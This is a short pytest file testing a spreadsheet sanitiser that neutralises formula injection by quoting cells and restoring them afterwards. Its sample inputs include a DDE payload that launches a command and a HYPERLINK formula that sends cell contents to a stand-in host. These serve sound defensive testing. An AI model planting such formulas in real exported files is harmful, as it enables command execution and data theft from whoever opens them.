import pytest

from core.spreadsheet import inert, restore

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?d="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["退款多久到账", "a=1", "", "'quoted", "1-3 个工作日"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "''+twice", "'plain", "plain", ""])
def test_restore_gives_back_the_text(text: str) -> None:
    assert restore(inert(text)) == text
